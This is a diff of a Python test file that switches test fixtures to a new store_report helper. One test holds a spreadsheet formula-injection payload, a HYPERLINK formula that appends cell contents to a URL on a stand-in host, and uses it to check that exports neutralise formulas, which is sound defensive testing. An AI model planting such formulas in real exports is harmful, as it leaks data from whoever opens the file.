@@ -12,6 +12,7 @@ from typer.testing import CliRunner
 import gknb
 from gknb.cli import app
 from gknb.export import export, import_json
+from gknb.pipeline.write import store_report
 from gknb.store import Store
 from storehelp import new_postgres_db, two_years
 
@@ -23,10 +24,10 @@ CORPUS = Path(__file__).parent / "corpus"
 def filled(tmp_path: Path) -> Store:
     store = Store.open(str(tmp_path / "e.db"))
     for path in sorted(SAMPLES.glob("*.txt")) + sorted(CORPUS.glob("*.txt"))[:4]:
-        store.add(gknb.read(path), path.read_bytes())
+        store_report(store, gknb.read(path), path.read_bytes())
     (text1, year1), (text2, year2) = two_years()
-    store.add(year1, text1.encode())
-    store.add(year2, text2.encode())
+    store_report(store, year1, text1.encode())
+    store_report(store, year2, text2.encode())
     return store
 
 
@@ -99,7 +100,7 @@ def test_exports_neutralise_formulas_but_keep_numbers(tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://example.org/?"&A2,"点击")'
     report.meta.agency = evil
     store = Store.open(str(tmp_path / "f.db"))
-    store.add(report, text.encode())
+    store_report(store, report, text.encode())
     export(store, "xlsx", tmp_path / "f.xlsx")
     book = load_workbook(tmp_path / "f.xlsx")
     cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == evil]
